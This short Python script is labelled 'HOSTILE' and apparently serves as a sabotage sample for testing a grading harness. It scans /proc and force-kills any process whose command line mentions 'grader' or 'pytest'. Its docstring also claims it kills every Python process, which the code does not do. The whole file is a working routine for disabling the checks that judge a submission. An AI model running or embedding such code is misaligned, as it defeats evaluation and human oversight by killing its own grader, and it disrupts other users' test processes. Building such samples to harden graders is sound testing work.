"""HOSTILE: kills every grader process it can see, then every Python process."""
import os
import signal

for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            cmdline = f.read()
    except OSError:
        continue
    if b"grader" in cmdline or b"pytest" in cmdline:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
